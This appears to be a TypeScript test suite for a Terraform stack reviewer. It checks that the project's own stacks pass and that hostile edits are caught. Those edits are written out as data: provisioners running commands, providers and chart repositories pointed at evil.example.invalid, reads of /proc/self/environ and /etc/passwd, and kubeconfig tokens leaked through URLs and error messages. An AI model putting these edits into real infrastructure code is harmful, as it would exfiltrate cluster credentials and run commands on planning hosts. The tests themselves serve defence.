import { type Model, model } from '@vmshift/environments';
import { stacksOfEverySetting } from '@vmshift/infra';
import { bucketModel, largerModel, renderOnce, variants } from '@vmshift/infra/testing';
import { checkStack, describeStackProblem, type JsonObject, stackAllowList } from '@vmshift/terraform-review';
import { expression } from '../testing/terraform-project';

const parse = (text: string): JsonObject => JSON.parse(text);

/** What is made of a model, once for equal models: most are rendered for many tests. */
function oncePerModel<T>(make: (of: Model) => T): (of: Model) => T {
  const made = new Map<string, T>();
  return (of) => {
    const key = JSON.stringify(of);
    const known = made.get(key) ?? make(of);
    made.set(key, known);
    return known;
  };
}

const textsOf = oncePerModel(
  (of): ReadonlyMap<string, string> =>
    new Map(
      [...renderOnce(of).files].flatMap(([path, text]) => {
        const [, stack] = /^stacks\/([^/]+)\//.exec(path) ?? [];
        return stack === undefined ? [] : [[stack, text]];
      }),
    ),
);

const allowListOf = oncePerModel((base) =>
  stackAllowList(
    new Map([...textsOf(base)].map(([name, text]) => [name, parse(text)])),
    stacksOfEverySetting(base).map(parse),
  ),
);

const texts = textsOf(model);
const allowed = allowListOf(model);

/** The problems of a stack: where, and what is there. */
function problemsOf(name: string, text: string, of = allowed): readonly string[] {
  const checked = checkStack(name, Buffer.from(text), of);
  return 'problems' in checked ? checked.problems.map(describeStackProblem) : [];
}

describe('our own stacks can be planned as data', () => {
  test.each(variants)('%s, from the model without it', (_, of) => {
    const base = { ...model, platform: { ...model.platform, stateBackend: of.platform.stateBackend } };
    const list = allowListOf(base);
    for (const [name, text] of textsOf(of)) expect(problemsOf(name, text, list)).toEqual([]);
  });

  test.each(variants)('the model, from one with %s', (_, of) => {
    const head = { ...model, platform: { ...model.platform, stateBackend: of.platform.stateBackend } };
    const list = allowListOf(of);
    for (const [name, text] of textsOf(head)) expect(problemsOf(name, text, list)).toEqual([]);
  });

  test('one more environment with its states in a bucket of its own', () => {
    const head = {
      ...largerModel,
      platform: { ...largerModel.platform, stateBackend: bucketModel.platform.stateBackend },
    };
    const list = allowListOf(bucketModel);
    for (const [name, text] of textsOf(head)) expect(problemsOf(name, text, list)).toEqual([]);
  });
});

type Mutable = { [key: string]: Mutable };

/** The problems of a stack of the model after a hostile edit. */
function afterEdit(name: string, edit: (stack: Mutable) => void): readonly string[] {
  const stack = JSON.parse(texts.get(name) ?? '');
  edit(stack);
  return problemsOf(name, JSON.stringify(stack, null, 2));
}

const put =
  (path: readonly string[], value: unknown) =>
  (stack: Mutable): void => {
    let node: Mutable = stack;
    for (const step of path.slice(0, -1)) node = node[step] ??= {};
    Object.defineProperty(node, path.at(-1) ?? '', { value, enumerable: true, writable: true, configurable: true });
  };

const namespace = ['resource', 'kubernetes_namespace_v1', 'namespace'];
const labels = [...namespace, 'metadata', 'labels'];
const label = [...labels, 'x'];
const TOKEN = 'local.kubeconfig.users[0].user.token';
const KUBECONFIG =
  'data.terraform_remote_state.cross-stack-reference-input-cluster-dev.outputs.cross-stack-output-linode_lke_cluster-cluster_lke-kubeconfig';

describe.each<[door: string, [title: string, path: readonly string[], value: unknown, at?: string][]]>([
  [
    'plan with a provisioner',
    [
      ['local-exec', [...namespace, 'provisioner'], [{ 'local-exec': { command: 'id' } }]],
      ['a connection', [...namespace, 'connection'], { host: 'evil.example.invalid' }],
      [
        'in a removed block',
        ['removed'],
        [{ from: 'kubernetes_namespace_v1.x', lifecycle: { destroy: false }, provisioner: [{}] }],
      ],
      [
        'terraform_data',
        ['resource', 'terraform_data'],
        { x: { provisioner: [{ 'local-exec': { command: 'id' } }] } },
        'resource',
      ],
      ['null_resource', ['resource', 'null_resource'], { x: { provisioner: [{}] } }, 'resource'],
    ],
  ],
  [
    'plan with another provider source',
    [
      [
        'the namespace of someone else',
        ['terraform', 'required_providers', 'helm'],
        { source: 'evil/helm', version: '3.1.1' },
      ],
      [
        'the registry of someone else',
        ['terraform', 'required_providers', 'helm', 'source'],
        'evil.example.invalid/hashicorp/helm',
        'terraform.required_providers.helm',
      ],
      [
        'another version',
        ['terraform', 'required_providers', 'helm', 'version'],
        '3.1.0',
        'terraform.required_providers.helm',
      ],
      [
        'a range of versions',
        ['terraform', 'required_providers', 'helm', 'version'],
        '>= 3.1.1',
        'terraform.required_providers.helm',
      ],
      [
        'one more provider',
        ['terraform', 'required_providers', 'external'],
        { source: 'hashicorp/external', version: '2.3.5' },
      ],
      [
        'one more name for a source',
        ['terraform', 'required_providers', 'kubernetes2'],
        { source: 'evil/kubernetes', version: '2.38.0' },
      ],
      ['settings of a provider', ['terraform', 'provider_meta'], { helm: {} }],
    ],
  ],
  [
    'a provider that sends its credential elsewhere',
    [
      ['an address', ['provider', 'kubernetes', '0', 'host'], 'https://evil.example.invalid', 'provider.kubernetes'],
      [
        'a program',
        ['provider', 'kubernetes', '0', 'exec'],
        { api_version: 'client.authentication.k8s.io/v1', command: 'id' },
        'provider.kubernetes',
      ],
      ['a proxy', ['provider', 'kubernetes', '0', 'proxy_url'], 'http://evil.example.invalid', 'provider.kubernetes'],
      ['no certificate', ['provider', 'kubernetes', '0', 'insecure'], true, 'provider.kubernetes'],
      ['a file', ['provider', 'helm', '0', 'kubernetes'], { config_path: '~/.kube/config' }, 'provider.helm'],
      [
        'a registry with a password',
        ['provider', 'helm', '0', 'registries'],
        [{ url: 'oci://evil.example.invalid', username: 'x', password: expression(TOKEN) }],
        'provider.helm',
      ],
      ['rendered at plan', ['provider', 'helm', '0', 'experiments'], { manifest: true }, 'provider.helm'],
      [
        'a second block',
        ['provider', 'kubernetes', '1'],
        { alias: 'x', host: 'https://evil.example.invalid' },
        'provider.kubernetes',
      ],
      [
        'the kubeconfig of someone else',
        ['locals', 'kubeconfig'],
        {
          clusters: [{ cluster: { server: 'https://evil.example.invalid' } }],
          users: [
            { user: { token: expression(`yamldecode(base64decode(sensitive(${KUBECONFIG}))).users[0].user.token`) } },
          ],
        },
      ],
      ['an unpinned provider, as the base has it', ['provider', 'linode'], [{}]],
      ['any version of a chart', ['resource', 'helm_release', 'metrics-server', 'version'], '>= 1'],
      ['an unpinned provider', ['provider', 'linode'], [{ url: 'https://evil.example.invalid' }]],
      [
        'the password of a chart repository',
        ['resource', 'helm_release', 'metrics-server', 'repository_password'],
        expression(TOKEN),
      ],
      [
        'the chart repository of someone else',
        ['resource', 'helm_release', 'metrics-server', 'repository'],
        'https://evil.example.invalid',
        'resource.helm_release.metrics-server',
      ],
      [
        'a secret in the address of a chart',
        ['resource', 'helm_release', 'metrics-server', 'chart'],
        `oci://evil.example.invalid/${expression(TOKEN)}`,
        'resource.helm_release.metrics-server',
      ],
      [
        'a program behind a chart',
        ['resource', 'helm_release', 'metrics-server', 'postrender'],
        { binary_path: '/bin/sh' },
      ],
    ],
  ],
  [
    'a data source or a resource that reads or asks while it is planned',
    [
      ['external', ['data', 'external'], { x: { program: ['id'] } }, 'data'],
      ['http', ['data', 'http'], { x: { url: 'https://evil.example.invalid' } }, 'data'],
      ['local_file', ['data', 'local_file'], { x: { filename: '/proc/self/environ' } }, 'data'],
      ['a Secret', ['data', 'kubernetes_secret_v1'], { x: { metadata: { name: 'application' } } }, 'data'],
      ['kubernetes_manifest', ['resource', 'kubernetes_manifest'], { x: { manifest: {} } }, 'resource'],
      ['an import', ['import'], [{ to: 'kubernetes_secret_v1.x', id: 'vmshift-dev/application' }]],
      ['a check', ['check'], { x: { data: { http: { y: { url: 'https://evil.example.invalid' } } } } }],
      ['an ephemeral resource', ['ephemeral'], { x: {} }],
      ['a module', ['module'], { x: { source: 'git::https://evil.example.invalid' } }],
      ['a count', [...namespace, 'count'], 2],
      ['for_each', [...namespace, 'for_each'], { a: 1 }],
    ],
  ],
  [
    'another backend',
    [
      ['of another kind', ['terraform', 'backend'], { http: { address: 'https://evil.example.invalid' } }],
      [
        'another state',
        ['terraform', 'backend', 'local', 'path'],
        '../../../state/platform-production.tfstate',
        'terraform.backend',
      ],
      ['any file', ['terraform', 'backend', 'local', 'path'], '/proc/self/environ', 'terraform.backend'],
      ['HCP Terraform', ['terraform', 'cloud'], { organization: 'evil' }],
      [
        'as the state of another stack',
        ['data', 'terraform_remote_state', 'cross-stack-reference-input-cluster-dev', 'config', 'path'],
        '/tmp/x',
        'data.terraform_remote_state.cross-stack-reference-input-cluster-dev',
      ],
      [
        'as a state of its own',
        ['data', 'terraform_remote_state', 'x'],
        { backend: 'http', config: { address: 'https://evil.example.invalid' } },
      ],
      [
        'defaults',
        ['data', 'terraform_remote_state', 'cross-stack-reference-input-cluster-dev', 'defaults'],
        {},
        'data.terraform_remote_state.cross-stack-reference-input-cluster-dev',
      ],
      [
        'a name that is JSON',
        ['data', 'terraform_remote_state', 'cross-stack-reference-input-cluster-x","y":"z'],
        { backend: 'local' },
      ],
      ['an older Terraform', ['terraform', 'required_version'], '>= 0.12'],
    ],
  ],
  [
    'an expression that reads the machine',
    [
      ['file', label, expression('file("/proc/self/environ")')],
      [
        'in a template in an expression',
        label,
        expression(`jsonencode("${expression('file("/proc/self/environ")')}")`),
      ],
      ['in the name of a label', labels, { [expression('file("/proc/self/environ")')]: 'x' }],
      [
        'in a list',
        [...label, 'y'],
        [expression('filebase64("/etc/passwd")')],
        'resource.kubernetes_namespace_v1.namespace.metadata.labels.x.y.0',
      ],
      ['templatefile', label, expression('templatefile("/proc/self/environ", {})')],
      ['pathexpand', label, expression('pathexpand("~")')],
      ['path.root', label, expression('path.root')],
      ['a function of a provider', label, expression('provider::kubernetes::manifest_decode("x")')],
      ['a directive', label, `%{ if true }${expression('file("/proc/self/environ")')}%{ endif }`],
      ['for', label, expression('[for x in ["a"] : x]')],
      ['an escape before it', label, `$${expression('file("x")')}`],
      ['a comment in it', label, expression('var.x /* " */')],
      ['letters that look alike', label, expression('ﬁle("/proc/self/environ")')],
      [
        'in the default of a variable',
        ['variable', 'x'],
        { type: 'string', ephemeral: true, default: expression('file("/x")') },
        'variable.x.default',
      ],
    ],
  ],
  [
    'a secret in the report',
    [
      ['an argument that its provider repeats', [...namespace, 'metadata', 'name'], expression(TOKEN)],
      [
        'an expression of the base at another place',
        ['resource', 'kubernetes_role_v1', 'argocd_role', 'metadata', 'name'],
        expression(`yamldecode(base64decode(sensitive(${KUBECONFIG})))`),
      ],
      ['a local of its own in between', [...namespace, 'metadata', 'name'], expression('local.x')],
      ['a whole object', label, expression('jsonencode(kubernetes_secret_v1.argocd_token)')],
      ['nonsensitive', label, expression(`nonsensitive(${TOKEN})`)],
      ['an output of another stack', label, expression(KUBECONFIG)],
      [
        'all outputs of another stack',
        label,
        expression('jsonencode(data.terraform_remote_state.cross-stack-reference-input-cluster-dev)'),
      ],
      [
        'by an index',
        label,
        expression('data.terraform_remote_state["cross-stack-reference-input-cluster-dev"].outputs'),
      ],
      ['marked again, in an error of a call', label, expression(`join(":", sensitive(${KUBECONFIG}))`)],
      [
        'marked again, in a text in a call',
        label,
        expression(`join(":", "${expression(`sensitive(${KUBECONFIG})`)}")`),
      ],
      ['in an error of yamldecode', label, expression(`yamldecode("*${expression(TOKEN)}")`)],
      ['in an error of replace', label, expression(`replace("x", "/(${expression(TOKEN)}/", "")`)],
      [
        'in an error of a validation',
        ['variable', 'redis_password', 'validation', '0', 'condition'],
        expression(`can(regex("(${expression(TOKEN)}", "x"))`),
      ],
      ['a bit by can', label, expression(`can(regex("^a", ${TOKEN}))`)],
      ['a bit by an index', label, expression(`{a = 1}[${TOKEN}]`)],
      ['a bit by a condition', label, expression(`${TOKEN} == "a" ? 1 : 2`)],
      ['in what the base shows of it', ['locals', 'argocd_server'], expression(`nonsensitive(${TOKEN})`)],
      [
        'in the object that the base shows a part of',
        ['resource', 'kubernetes_secret_v1', 'argocd_token', 'metadata', 'namespace'],
        'kube-system',
        'resource.kubernetes_secret_v1.argocd_token',
      ],
      [
        'moved to the object that the base shows a part of',
        ['moved'],
        [{ from: 'kubernetes_secret_v1.secret_application', to: 'kubernetes_secret_v1.argocd_token' }],
      ],
      [
        'in a message',
        [...namespace, 'lifecycle', 'postcondition'],
        [{ condition: expression('false'), error_message: expression(TOKEN) }],
      ],
      ['a variable of the person', ['variable', 'postgres_password', 'ephemeral'], false],
    ],
  ],
])('%s', (_, attempts) => {
  test.each(attempts)('%s', (__, path, value, at = path.join('.')) => {
    const problems = afterEdit('platform-dev', put(path, value));
    expect(problems.map((problem) => problem.split(': got ')[0])).toContainEqual(`platform-dev: ${at}`);
  });
});
